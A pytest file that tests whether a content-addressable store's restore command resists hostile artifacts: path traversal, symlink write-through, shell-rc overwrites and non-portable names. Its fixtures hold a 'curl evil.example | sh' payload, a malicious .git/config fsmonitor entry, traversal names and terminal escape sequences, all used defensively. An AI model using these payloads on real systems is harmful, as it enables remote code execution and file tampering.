"""Issue 15, items 1, 13 and 15 (tree paths): what a store's writer can make a restore write.

Hostile artifacts are planted the way another writer of the store could:
hash-valid objects through cas's own encoders (``Tree``/``FileEntry``/``Artifact``
``to_bytes`` and ``store.objects.put_object``), and a version through the
store's own ref writer. Then the victim runs ``cas get`` (click's runner) or
``Store.get`` in a folder of its own, and we look at the disk.

Sizes: each folder restore crosses the three storage classes of a file: inline
in the tree (< 4 KiB), one loose object (4 KiB .. 1 MiB) and chunked into
packs (> 1 MiB), so every class goes through the destination checks.
"""

from __future__ import annotations

import os
import stat
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

import cas
from cas.cli import main, printable
from cas.destination import unsafe_file_name
from cas.hashing import short, to_hex
from cas.objects import Artifact, FileEntry, Tree, check_portable_path, check_portable_tree

SMALL = b"small, inline in the tree\n"  # < 4 KiB
MEDIUM = os.urandom(200 << 10)  # one loose object
LARGE = os.urandom((2 << 20) + 12345)  # > 1 MiB: chunked into a pack


@pytest.fixture
def umask() -> Iterator[None]:
    old = os.umask(0o022)
    yield
    os.umask(old)


def _stored_entry(store: cas.Store, path: str, data: bytes) -> FileEntry:
    if len(data) <= 4096:
        return FileEntry(path, len(data), data=data)
    ref = store.put(data)  # a cas.bytes artifact: its one file "data" holds the chunks we re-use
    artifact = store._artifact(ref)
    (stored,) = store._tree(artifact).entries
    return FileEntry(path, stored.size, stored.chunks, hash=stored.hash)


def plant(
    store: cas.Store,
    files: dict[str, bytes],
    metadata: dict[str, Any],
    name: str = "victim",
    materializer: str = "cas.path",
) -> str:
    """Write a hash-valid artifact with these tree paths and metadata; return its hash."""
    entries = tuple(_stored_entry(store, p, files[p]) for p in sorted(files))
    tree = Tree.of(entries)
    tree_digest = store.objects.put_object(tree.to_bytes())
    artifact = Artifact(
        tree=tree_digest,
        python_type="pathlib.PosixPath",
        materializer=materializer,
        materializer_version="1",
        size=tree.size,
        metadata=metadata,
        user_metadata={},
    )
    digest = store.objects.put_object(artifact.to_bytes())
    store.objects.flush()
    store.refs.create_version(name, digest)
    return to_hex(digest)


@pytest.fixture
def victim(local_store: cas.Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    """Run ``cas`` as the victim, in its own empty working folder."""
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    monkeypatch.delenv("CAS_STORE", raising=False)
    runner = CliRunner()

    def invoke(*args: str) -> Result:
        return runner.invoke(main, ["--store", local_store.url, *args], catch_exceptions=False)

    return invoke


def _snapshot(root: Path) -> dict[str, tuple[int, bytes | str]]:
    found: dict[str, tuple[int, bytes | str]] = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            full = Path(folder) / name
            st = os.lstat(full)
            rel = str(full.relative_to(root))
            if stat.S_ISLNK(st.st_mode):
                found[rel] = (st.st_mode, os.readlink(full))
            elif stat.S_ISREG(st.st_mode):
                found[rel] = (st.st_mode, full.read_bytes())
            else:
                found[rel] = (st.st_mode, "")
    return found


def _one_line_error(result: Result) -> str:
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("cas: error: "), result.stderr
    return lines[0]


# -- item 1: cas get without -o --------------------------------------------


@pytest.mark.parametrize(
    "stored",
    [
        "ABSOLUTE",
        "../escaped.txt",
        "sub/dir.txt",
        "..",
        ".",
        "",
        ".bashrc",
        ".profile",
        ".git",
        "CON",
        "nul.txt",
        "x.",
        "y ",
        "a:b",
        "-rf",
        "\u202etxt.exe",
        "zero\u200bwidth",
        "\x1b[31mred",
        "a\\b",
        "what?",
        "x" * 300,
    ],
)
def test_get_without_o_writes_only_a_checked_base_name(
    local_store: cas.Store, victim, tmp_path: Path, stored: str
) -> None:  # type: ignore[no-untyped-def]
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_bytes(b"the victim's own file")
    if stored == "ABSOLUTE":
        stored = str(outside / "keep.txt")
    digest = plant(local_store, {"payload.txt": SMALL}, {"kind": "file", "name": stored})
    before = _snapshot(tmp_path / "outside")
    result = victim("get", "victim")
    assert result.exit_code == 0, result.output
    cwd = tmp_path / "cwd"
    assert sorted(os.listdir(cwd)) == [short(digest)]  # the short hash, and nothing else
    assert (cwd / short(digest)).read_bytes() == SMALL
    assert "writing to " + short(digest) in result.stderr and "\x1b" not in result.stderr
    assert _snapshot(outside) == before
    assert sorted(os.listdir(tmp_path)) == ["cwd", "outside", "store"]


def test_get_without_o_plain_name_is_kept(local_store: cas.Store, victim, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    plant(local_store, {"report.csv": SMALL}, {"kind": "file", "name": "report.csv"})
    result = victim("get", "victim")
    assert result.exit_code == 0 and result.stderr == ""
    assert (tmp_path / "cwd" / "report.csv").read_bytes() == SMALL


def test_bashrc_in_a_fake_home_is_never_touched(
    local_store: cas.Store, victim, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:  # type: ignore[no-untyped-def]
    home = tmp_path / "home"
    (home / "project").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    (home / ".bashrc").write_text("# the victim's own shell setup\n")
    os.chmod(home / ".bashrc", 0o644)
    evil = b"curl evil.example | sh\n"
    names = [str(home / ".bashrc"), "~/.bashrc", "../.bashrc", ".bashrc", ".bash_profile", "../.bash_profile"]
    for i, name in enumerate(names):
        plant(local_store, {"rc": evil}, {"kind": "file", "name": name}, name=f"rc{i}")
    for extra in ((), ("--force",)):
        for cwd in (home / "project", home):
            monkeypatch.chdir(cwd)
            for i in range(len(names)):
                result = victim("get", f"rc{i}", *extra)
                assert result.exit_code in (0, 1), result.output
                assert (home / ".bashrc").read_text() == "# the victim's own shell setup\n", names[i]
    assert stat.S_IMODE(os.stat(home / ".bashrc").st_mode) == 0o644
    assert not (home / ".bash_profile").exists()
    assert not (home / "~").exists() and not (home / "project" / "~").exists()
    for folder in (home, home / "project"):
        for child in folder.iterdir():
            assert child.name in (".bashrc", "project") or child.read_bytes() == evil and len(child.name) == 12


def test_get_without_o_never_replaces_without_force(local_store: cas.Store, victim, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    cwd = tmp_path / "cwd"
    plant(local_store, {"notes.txt": SMALL}, {"kind": "file", "name": "notes.txt"}, name="file")
    plant(local_store, {"a": SMALL, "b/c": MEDIUM}, {"kind": "directory", "name": "proj"}, name="folder")
    (cwd / "notes.txt").write_bytes(b"mine")
    (cwd / "proj").mkdir()
    (cwd / "proj" / "mine.txt").write_bytes(b"mine")
    assert "--force" in _one_line_error(victim("get", "file"))
    assert "--force" in _one_line_error(victim("get", "folder"))
    assert (cwd / "notes.txt").read_bytes() == b"mine" and sorted(os.listdir(cwd / "proj")) == ["mine.txt"]
    assert victim("get", "file", "--force").exit_code == 0
    assert (cwd / "notes.txt").read_bytes() == SMALL
    assert victim("get", "folder", "--force").exit_code == 0
    assert (cwd / "proj" / "b" / "c").read_bytes() == MEDIUM and (cwd / "proj" / "mine.txt").read_bytes() == b"mine"
    # The wrong kind is refused even with --force; a symlink under the stored name is never followed.
    (cwd / "notes.txt").unlink()
    (cwd / "notes.txt").mkdir()
    assert "folder" in _one_line_error(victim("get", "file", "--force"))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (cwd / "proj2").symlink_to(elsewhere)
    plant(local_store, {"x": SMALL}, {"kind": "directory", "name": "proj2"}, name="linked")
    assert "symlink" in _one_line_error(victim("get", "linked", "--force"))
    assert list(elsewhere.iterdir()) == []


def test_get_folder_onto_an_existing_file_is_a_one_line_error(local_store: cas.Store, victim, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    plant(local_store, {"a": SMALL, "b": MEDIUM}, {"kind": "directory", "name": "d"})
    target = tmp_path / "cwd" / "existing.txt"
    target.write_bytes(b"mine")
    line = _one_line_error(victim("get", "victim", "-o", "existing.txt"))
    assert "not a folder" in line
    assert target.read_bytes() == b"mine"
    with pytest.raises(cas.DestinationExistsError):
        local_store.get("victim", path=target)


def test_cli_errors_and_output_are_one_line_and_inert(local_store: cas.Store, victim, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    assert printable("a\x1b[2Jb\nc") == "a\\x1b[2Jb\nc"
    assert printable("a\nb\u202ec\ud800", one_line=True) == "a\\nb\\u202ec\\ud800"
    ref = local_store.put(b"x", "shown", metadata={"note": "\x1b]0;owned\x07\x1b[2J"})
    shown = victim("show", ref.hash)
    assert shown.exit_code == 0 and "\x1b" not in shown.output and "\\x1b" in shown.output
    missing = _one_line_error(victim("get", "nothing-here"))
    assert "nothing-here" in missing
    # A file where a folder is needed: a typed error, one line.
    plant(local_store, {"f": SMALL}, {"kind": "file", "name": "f"}, name="one")
    (tmp_path / "cwd" / "plain").write_bytes(b"mine")
    assert "is a file" in _one_line_error(victim("get", "one", "-o", "plain/sub/f"))
    # An OSError (here: a name longer than the file system allows) is one line too, not a traceback.
    assert "too long" in _one_line_error(victim("get", "one", "-o", "n" * 300))
    assert sorted(os.listdir(tmp_path / "cwd")) == ["plain"]  # and no temporary file left behind


def test_unsafe_file_name_rules() -> None:
    for good in ("data.csv", "model", "ünïcode", "a b", "x.tar.gz"):
        assert unsafe_file_name(good) is None, good
    for bad in (None, 3, "", ".", "..", ".bashrc", "a/b", "/abs", "CON", "x.", "-x", "a|b", "\u200b", "e\u0301\ud800"):
        assert unsafe_file_name(bad) is not None, bad


# -- item 13: restoring folders ------------------------------------------------


def _folder(tmp_path: Path) -> Path:
    src = tmp_path / "src"
    (src / "bin").mkdir(parents=True)
    (src / "data").mkdir()
    (src / "bin" / "run.sh").write_bytes(b"#!/bin/sh\necho hi\n")  # inline
    (src / "bin" / "tool").write_bytes(MEDIUM)  # loose
    (src / "data" / "big.bin").write_bytes(LARGE)  # chunked
    (src / "data" / "small.txt").write_bytes(SMALL)
    (src / "bin" / "run.sh").chmod(0o755)
    (src / "bin" / "tool").chmod(0o700)
    (src / "data" / "big.bin").chmod(0o600)
    return src


def _mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_restored_modes_follow_umask_and_keep_the_executable_bit(
    local_store: cas.Store, tmp_path: Path, umask: None
) -> None:
    src = _folder(tmp_path)
    ref = local_store.put(src, "tree")
    assert local_store.info(ref).metadata["executable"] == ["bin/run.sh", "bin/tool"]
    out = local_store.get(ref, path=tmp_path / "out")
    assert _mode(out / "bin" / "run.sh") == 0o755 and _mode(out / "bin" / "tool") == 0o755
    assert _mode(out / "data" / "big.bin") == 0o644 and _mode(out / "data" / "small.txt") == 0o644
    assert (out / "data" / "big.bin").read_bytes() == LARGE
    os.umask(0o077)
    again = local_store.get(ref, path=tmp_path / "out2")
    assert _mode(again / "bin" / "tool") == 0o700 and _mode(again / "data" / "small.txt") == 0o600
    # One file: the same.
    one = local_store.put(src / "bin" / "run.sh")
    os.umask(0o022)
    assert _mode(local_store.get(one, path=tmp_path / "one.sh")) == 0o755
    plain = local_store.put(src / "data" / "big.bin")
    assert "executable" not in local_store.info(plain).metadata  # same artifact as before this change
    assert _mode(local_store.get(plain, path=tmp_path / "plain.bin")) == 0o644


def test_artifacts_without_the_executable_key_still_restore(
    local_store: cas.Store, tmp_path: Path, umask: None
) -> None:
    """An artifact written before ``executable`` existed (materializer version 1, no key)."""
    plant(local_store, {"a": SMALL, "m/b": MEDIUM, "z/c": LARGE}, {"kind": "directory", "name": "old"})
    out = local_store.get("victim", path=tmp_path / "out")
    assert [_mode(out / p) for p in ("a", "m/b", "z/c")] == [0o644] * 3
    assert (out / "z" / "c").read_bytes() == LARGE


@pytest.mark.parametrize("bad", ["bin/x", [1], {"a": 1}, [None], [["a"]]])
def test_hostile_executable_metadata_is_refused(local_store: cas.Store, tmp_path: Path, bad: object) -> None:
    plant(local_store, {"a": SMALL}, {"kind": "directory", "name": "d", "executable": bad})
    with pytest.raises(cas.CorruptObjectError, match="executable"):
        local_store.get("victim", path=tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_executable_paths_the_tree_lacks_are_ignored(local_store: cas.Store, tmp_path: Path, umask: None) -> None:
    plant(local_store, {"a": SMALL}, {"kind": "directory", "name": "d", "executable": ["../../x", "a/b", "a"]})
    out = local_store.get("victim", path=tmp_path / "out")
    assert os.listdir(out) == ["a"] and _mode(out / "a") == 0o755
    assert sorted(os.listdir(tmp_path)) == ["out", "store"]


@pytest.mark.parametrize("where", ["a", "m", "z"])
def test_a_symlink_on_the_way_refuses_before_any_file_is_written(
    local_store: cas.Store, tmp_path: Path, where: str
) -> None:
    plant(local_store, {"a/1": SMALL, "m/2": MEDIUM, "z/3": LARGE}, {"kind": "directory", "name": "d"})
    target = tmp_path / "target"
    target.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    (target / where).symlink_to(outside)
    before = _snapshot(target)
    with pytest.raises(cas.UnsafeDestinationError, match="symlink"):
        local_store.get("victim", path=target)
    assert _snapshot(target) == before and list(outside.iterdir()) == []


def test_a_file_where_a_folder_goes_refuses_before_any_file_is_written(local_store: cas.Store, tmp_path: Path) -> None:
    plant(local_store, {"a/1": SMALL, "m/2": MEDIUM, "z/3": LARGE}, {"kind": "directory", "name": "d"})
    target = tmp_path / "target"
    target.mkdir()
    (target / "z").write_bytes(b"a file")
    with pytest.raises(cas.DestinationExistsError, match="not a folder"):
        local_store.get("victim", path=target)
    assert sorted(os.listdir(target)) == ["z"]
    (target / "z").unlink()
    (target / "m" / "2").mkdir(parents=True)  # a folder where a file goes
    with pytest.raises(cas.DestinationExistsError, match="is a folder"):
        local_store.get("victim", path=target)
    assert sorted(os.listdir(target)) == ["m"]


def test_restore_replaces_symlinks_and_hard_links_instead_of_writing_through(
    local_store: cas.Store, tmp_path: Path
) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_bytes(b"precious")
    plant(local_store, {"a": SMALL, "b": MEDIUM, "c": LARGE}, {"kind": "directory", "name": "d"})
    target = tmp_path / "target"
    target.mkdir()
    (target / "a").symlink_to(outside)
    os.link(outside, target / "b")
    (target / "c").symlink_to(tmp_path / "dangling")
    local_store.get("victim", path=target)
    assert outside.read_bytes() == b"precious" and not (tmp_path / "dangling").exists()
    assert not (target / "a").is_symlink() and (target / "a").read_bytes() == SMALL
    assert (target / "b").read_bytes() == MEDIUM and (target / "c").read_bytes() == LARGE


@pytest.mark.parametrize("data", [SMALL, MEDIUM, LARGE], ids=["inline", "loose", "chunked"])
def test_single_file_restore_never_writes_through_a_symlink(
    local_store: cas.Store, tmp_path: Path, data: bytes
) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_bytes(b"precious")
    plant(local_store, {"f.txt": data}, {"kind": "file", "name": "f.txt"})
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / "f.txt").symlink_to(outside)  # into a folder: the file keeps its name, where a link waits
    assert local_store.get("victim", path=folder) == folder / "f.txt"
    link = tmp_path / "link.txt"
    link.symlink_to(outside)  # the target itself is a link
    assert local_store.get("victim", path=link) == link
    assert outside.read_bytes() == b"precious"
    assert not (folder / "f.txt").is_symlink() and (folder / "f.txt").read_bytes() == data
    assert not link.is_symlink() and link.read_bytes() == data
    (folder / "f.txt").unlink()
    (folder / "f.txt").mkdir()
    with pytest.raises(cas.DestinationExistsError):
        local_store.get("victim", path=folder)


def test_single_file_with_a_hostile_path_goes_under_its_base_name(local_store: cas.Store, tmp_path: Path) -> None:
    plant(local_store, {"deep/er/f.bin": MEDIUM}, {}, materializer="cas.bytes")
    folder = tmp_path / "folder"
    folder.mkdir()
    assert local_store.get("victim", path=folder) == folder / "f.bin"
    assert sorted(os.listdir(folder)) == ["f.bin"]


# -- item 15: tree paths -------------------------------------------------------

NFC = unicodedata.normalize("NFC", "caf\u00e9")
NFD = unicodedata.normalize("NFD", "caf\u00e9")
HOSTILE_TREES = [
    {".git/config": b"[core]\n\tfsmonitor = evil\n"},
    {"a/.GIT/hooks/pre-commit": b"#!/bin/sh\n"},
    {".g\u200cit/config": b"x"},
    {"file.txt:stream": b"x"},
    {"CON": b"x"},
    {"sub/nul.txt": b"x"},
    {"COM1.log": b"x"},
    {"x.": b"x"},
    {"y ": b"x"},
    {"A": b"upper", "a": b"lower"},
    {"Dir/x": b"1", "dir/y": b"2"},
    {NFC: b"nfc", NFD: b"nfd"},
]


@pytest.mark.parametrize("files", HOSTILE_TREES, ids=lambda f: ascii(sorted(f)))
def test_non_portable_tree_paths_are_refused_on_restore(
    local_store: cas.Store, victim, tmp_path: Path, files: dict[str, bytes]
) -> None:  # type: ignore[no-untyped-def]
    files = {p: d + MEDIUM for p, d in files.items()}  # loose objects
    files["z/big"] = LARGE
    plant(local_store, files, {"kind": "directory", "name": "d"})
    # Decoding still works: the bytes can be read into memory.
    reader = local_store.reader("victim")
    for path, data in files.items():
        assert reader.read_bytes(path) == data
    with pytest.raises(cas.NonPortablePathError):
        local_store.get("victim", path=tmp_path / "out")
    assert not (tmp_path / "out").exists()
    _one_line_error(victim("get", "victim", "-o", "out"))
    assert os.listdir(tmp_path / "cwd") == []


def test_put_refuses_non_portable_folders_and_says_why(local_store: cas.Store, tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (repo / "README").write_text("hi")
    with pytest.raises(cas.NonPortablePathError, match=r"\.git"):
        local_store.put(repo, "repo")
    twins = tmp_path / "twins"
    twins.mkdir()
    (twins / "Readme").write_text("1")
    (twins / "README").write_text("2")
    with pytest.raises(cas.NonPortablePathError, match="case"):
        local_store.put(twins)
    for bad in ("stamp 10:00.log", "CON.txt", "trailing."):
        folder = tmp_path / f"f{len(bad)}"
        folder.mkdir()
        (folder / bad).write_text("x")
        with pytest.raises(cas.NonPortablePathError):
            local_store.put(folder)
        with pytest.raises(cas.NonPortablePathError):
            local_store.put(folder / bad)  # one file: its name is its tree path
    assert list(local_store.names()) == []
    ok = tmp_path / "ok"
    (ok / ".github").mkdir(parents=True)
    for name in (".gitignore", ".github/ci.yml", "console.log", "a..b", ".hidden"):
        (ok / name).write_text(name)
    assert local_store.get(local_store.put(ok), path=tmp_path / "ok2").is_dir()


def test_portable_path_rules() -> None:
    for good in ("a", ".gitignore", ".gitmodules", "git", "x.git", "COM10", "console", "nulls/x", "LPT"):
        assert check_portable_path(good) == good
    for bad in (".git", ".Git/x", "a/.GIT", "GIT~1", ".git\ufeff", "ab:c", "CON", "con.txt", "Aux.tar.gz",
                "LPT\u00b9", "x/y.", "x/y ", "COM0"):  # fmt: skip
        with pytest.raises(cas.NonPortablePathError):
            check_portable_path(bad)
    check_portable_tree(["a", "b/c", "b/d"])
    for clash in (["A", "a"], ["A/x", "a/y"], [NFC, NFD], ["x/\u00c9", "x/\u00e9"]):
        with pytest.raises(cas.NonPortablePathError):
            check_portable_tree(sorted(clash))
